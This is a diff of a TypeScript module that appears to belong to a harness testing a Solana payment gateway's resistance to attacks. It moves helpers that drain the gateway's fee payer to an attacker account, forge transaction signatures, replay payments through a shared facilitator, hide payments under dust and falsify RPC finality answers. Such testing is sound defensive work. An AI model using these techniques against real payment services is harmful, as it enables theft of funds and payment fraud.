@@ -1,13 +1,10 @@
 import { randomBytes } from 'node:crypto';
-import { ed25519 } from '@noble/curves/ed25519.js';
 import { base58 } from '@scure/base';
-import type { Address, Instruction } from '@solana/kit';
-import type { PaymentRequirements } from '@/lib/client';
+import type { Address } from '@solana/kit';
 import { type Attack, held, judge, type Verdict } from './attack';
 import { openBooks } from './books';
 import { callRpc, SOLANA } from './chains/chains';
 import {
-  acceptedOn,
   decodePayment,
   encodePayment,
   present,
@@ -25,109 +22,24 @@ import {
   sendSolana,
   signedTransaction,
   solanaSignIn,
-  type SolanaAccount,
   transferChecked,
-  transferSol,
 } from './chains/solana-account';
+import {
+  dust,
+  executedElsewhere,
+  FIVE,
+  forgedSignature,
+  friend,
+  isSignature,
+  opening,
+  presentDrain,
+  signed,
+  USD,
+  withoutFinality,
+} from './solana-opening';
 import { methodsOf } from './stage/recorder';
 import { chainsOf, ownOf, type Target } from './target';
 import { counted } from './wire/burst';
-
-const USD = 1_000_000n;
-const FIVE = 5n * USD;
-
-/** Prepares an attack on Solana: a funded payer and the payment requirements. */
-async function opening(target: Target) {
-  const chains = chainsOf(target);
-  const [accepted, payer] = await Promise.all([acceptedOn(target, SOLANA.caip2), fundedSolanaAccount(chains)]);
-  const signIn = solanaSignIn(target, payer);
-  const books = await openBooks(target, accepted, [{ address: payer.address, signIn }]);
-  return {
-    chains,
-    accepted,
-    payer,
-    books,
-    feePayer: accepted.extra.feePayer as Address,
-    payTo: accepted.payTo as Address,
-  };
-}
-
-let drafts = 0;
-
-async function signed(
-  target: Target,
-  accepted: PaymentRequirements,
-  payer: SolanaAccount,
-  transfers: readonly Instruction[],
-  blockhash?: string,
-): Promise<string> {
-  // A different compute unit price makes each message unique.
-  drafts += 1;
-  const instructions = [...computeBudget(20_000, BigInt(drafts)), ...transfers];
-  return signedTransaction(chainsOf(target), {
-    feePayer: accepted.extra.feePayer as Address,
-    instructions,
-    signers: [payer],
-    ...(blockhash && { blockhash }),
-  });
-}
-
-/**
- * Presents payments that the gateway refuses. Then a shop that shares the facilitator executes them. Finally presents
- * them again.
- */
-async function executedElsewhere(
-  target: Target,
-  transfers: (scene: { payer: SolanaAccount; payTo: Address; feePayer: Address }) => Promise<Instruction[]>,
-  times = 1,
-): Promise<Verdict> {
-  const { chains, accepted, payer, books, feePayer, payTo } = await opening(target);
-  const { facilitator } = ownOf(target);
-  const seen: string[] = [];
-  for (let time = 0; time < times; time += 1) {
-    const wire = await signed(target, accepted, payer, await transfers({ payer, payTo, feePayer }));
-    const header = solanaPayment(accepted, wire);
-    seen.push(reasonOf(await present(target, header)));
-    await sendSolana(chains, countersigned(wire, facilitator?.solana.seed ?? new Uint8Array(32)));
-    seen.push(reasonOf(await presentUntilEnded(target, header, 20_000)));
-  }
-  return books.verdict(`presented before and after another shop had it executed: ${seen.join(', ')}`, {
-    isRefused: true,
-  });
-}
-
-/** Returns the address of another funded wallet, which is not the receiver. */
-async function friend(target: Target): Promise<Address> {
-  return (await fundedSolanaAccount(chainsOf(target))).address;
-}
-
-/** Asks the gateway's fee payer to sign a transaction that no payment needs. */
-async function presentDrain(
-  target: Target,
-): Promise<{ answer: string; wire: string; feePayer: Address; lamportsLost: number }> {
-  const { chains, accepted, payer, feePayer } = await opening(target);
-  const attacker = await newSolanaAccount();
-  const lamports = () =>
-    callRpc<{ value: number }>(chains.rpcUrl(SOLANA.slug), 'getBalance', [feePayer]).then(({ value }) => value);
-  const wanted = [
-    [
-      await transferChecked(payer.address, accepted.payTo as Address, FIVE),
-      transferSol(feePayer, attacker.address, 1_000_000_000n),
-    ],
-    [
-      transferSol(feePayer, attacker.address, 1_000_000_000n),
-      await transferChecked(payer.address, accepted.payTo as Address, FIVE),
-    ],
-  ];
-  const before = await lamports();
-  let wire = '';
-  const answers: string[] = [];
-  for (const transfers of wanted) {
-    wire = await signed(target, accepted, payer, transfers);
-    answers.push(reasonOf(await present(target, solanaPayment(accepted, wire))));
-  }
-  return { answer: answers.join(', '), wire, feePayer, lamportsLost: before - (await lamports()) };
-}
 
 export const SOLANA_ATTACKS: readonly Attack[] = [
   {
@@ -447,53 +359,4 @@ async function hideUnderDust(target: Target): Promise<Verdict> {
     isHeld && gained === FIVE,
     `${answer.status === 503 ? 'still open after 110 s' : reasonOf(answer)}; credited ${credited}, gained ${gained} base units`,
   );
-}
-
-/** Sends one base unit to an address `count` times. */
-async function dust(target: Target, to: Address, count: number): Promise<void> {
-  const chains = chainsOf(target);
-  const sender = await fundedSolanaAccount(chains);
-  const url = chains.rpcUrl(SOLANA.slug);
-  for (let index = 0; index < count; index += 1) {
-    // A different compute unit price makes each transaction unique.
-    const wire = await signedTransaction(chains, {
-      feePayer: sender.address,
-      signers: [sender],
-      instructions: [...computeBudget(20_000, BigInt(index)), await transferChecked(sender.address, to, 1n)],
-    });
-    await callRpc(url, 'sendTransaction', [wire, { encoding: 'base64', skipPreflight: true }]);
-  }
-}
-
-function isSignature(text: string, message: Uint8Array, key: Uint8Array): boolean {
-  try {
-    return ed25519.verify(base58.decode(text), message, key);
-  } catch {
-    return false;
-  }
-}
-
-/** Replaces a signer's signature in the wire form. Signatures come first, in the order of the static accounts. */
-function forgedSignature(wire: string, key: Uint8Array, signature: Uint8Array): string {
-  const bytes = Buffer.from(wire, 'base64');
-  const count = bytes[0] ?? 0;
-  // The accounts follow the signatures, the version, three counts and the number of accounts.
-  const accountsAt = 1 + 64 * count + 5;
-  for (let index = 0; index < count; index += 1) {
-    const at = accountsAt + 32 * index;
-    if (bytes.subarray(at, at + 32).equals(key)) bytes.set(signature, 1 + 64 * index);
-  }
-  return bytes.toString('base64');
-}
-
-/** Changes a node's answers so that recent transactions are not finalized. */
-function withoutFinality({ body }: { body: string }, answer: string): string {
-  const asksForFinality =
-    /"commitment" *: *"finalized"/.test(body) &&
-    /"method" *: *"(getTransaction|getSignaturesForAddress|getSignatureStatuses)"/.test(body);
-  if (asksForFinality)
-    return answer.replace(/"result" *:.*$/s, `"result":${body.includes('getTransaction') ? 'null' : '[]'}}`);
-  return answer
-    .replaceAll('"confirmationStatus":"finalized"', '"confirmationStatus":"confirmed"')
-    .replace(/"confirmations":null/g, '"confirmations":1');
 }
